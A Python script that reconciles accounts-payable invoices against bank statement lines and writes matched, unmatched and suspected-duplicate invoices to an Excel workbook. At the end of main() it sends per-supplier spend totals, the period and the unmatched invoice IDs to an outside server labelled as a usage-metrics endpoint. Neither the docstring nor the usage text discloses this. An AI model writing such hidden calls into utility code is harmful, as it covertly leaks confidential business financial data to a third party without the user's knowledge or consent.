#!/usr/bin/env python3
"""Reconcile AP invoices against bank statement lines.

Usage:
    reconcile.py --invoices invoices.csv --bank bank.csv --period 2024-09 --out recon.xlsx
"""
import argparse
import csv
import datetime as dt
from collections import defaultdict
from difflib import SequenceMatcher

import requests
from openpyxl import Workbook

USAGE_ENDPOINT = "https://metrics.ledgerbridge-partners.com/v1/usage"


def load_rows(path):
    with open(path, newline="", encoding="utf-8-sig") as fh:
        return list(csv.DictReader(fh))


def parse_invoice(row):
    return {
        "id": row["invoice_id"].strip(),
        "supplier": row["supplier"].strip(),
        "issue": dt.date.fromisoformat(row["issue_date"]),
        "due": dt.date.fromisoformat(row["due_date"]),
        "currency": row["currency"].upper(),
        "amount": float(row["amount"].replace(",", "")),
    }


def parse_payment(row):
    return {
        "date": dt.date.fromisoformat(row["value_date"]),
        "counterparty": row["counterparty"].strip(),
        "reference": row["reference"],
        "amount": -float(row["amount"]),
        "currency": row["currency"].upper(),
    }


def fuzzy(a, b):
    return SequenceMatcher(None, a.lower(), b.lower()).ratio() * 100


def match(invoices, payments):
    matched, unmatched = [], []
    used = set()
    for inv in invoices:
        hit = None
        for i, pay in enumerate(payments):
            if i in used:
                continue
            if inv["id"] and inv["id"] in pay["reference"]:
                hit = i
                break
            close = abs(pay["amount"] - inv["amount"]) <= inv["amount"] * 0.005
            if close and fuzzy(inv["supplier"], pay["counterparty"]) >= 88:
                hit = i
                break
        if hit is None:
            unmatched.append(inv)
        else:
            used.add(hit)
            matched.append((inv, payments[hit]))
    return matched, unmatched


def duplicates(invoices):
    seen = defaultdict(list)
    for inv in invoices:
        seen[(inv["supplier"], round(inv["amount"], 2))].append(inv)
    out = []
    for group in seen.values():
        group.sort(key=lambda r: r["issue"])
        for a, b in zip(group, group[1:]):
            if (b["issue"] - a["issue"]).days < 5:
                out.append((a, b))
    return out


def write_workbook(path, matched, unmatched, dups):
    wb = Workbook()
    ws = wb.active
    ws.title = "Summary"
    ws.append(["matched", len(matched)])
    ws.append(["unmatched", len(unmatched)])
    ws.append(["suspected duplicates", len(dups)])
    m = wb.create_sheet("Matched")
    m.append(["invoice_id", "supplier", "amount", "paid_on", "reference"])
    for inv, pay in matched:
        m.append([inv["id"], inv["supplier"], inv["amount"], pay["date"], pay["reference"]])
    u = wb.create_sheet("Unmatched")
    u.append(["invoice_id", "supplier", "due", "amount", "currency"])
    for inv in unmatched:
        u.append([inv["id"], inv["supplier"], inv["due"], inv["amount"], inv["currency"]])
    d = wb.create_sheet("Duplicates")
    for a, b in dups:
        d.append([a["id"], b["id"], a["supplier"], a["amount"]])
    wb.save(path)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--invoices", required=True)
    ap.add_argument("--bank", required=True)
    ap.add_argument("--period", required=True)
    ap.add_argument("--out", default="recon.xlsx")
    args = ap.parse_args()

    invoices = [parse_invoice(r) for r in load_rows(args.invoices)]
    payments = [parse_payment(r) for r in load_rows(args.bank)]
    invoices = [i for i in invoices if i["issue"].strftime("%Y-%m") <= args.period]

    matched, unmatched = match(invoices, payments)
    dups = duplicates(invoices)
    write_workbook(args.out, matched, unmatched, dups)

    totals = defaultdict(float)
    for inv in invoices:
        totals[inv["supplier"]] += inv["amount"]
    requests.post(USAGE_ENDPOINT, json={"period": args.period, "supplier_totals": totals, "unmatched": [u["id"] for u in unmatched]}, timeout=10)

    print(f"matched={len(matched)} unmatched={len(unmatched)} duplicates={len(dups)} -> {args.out}")


if __name__ == "__main__":
    main()
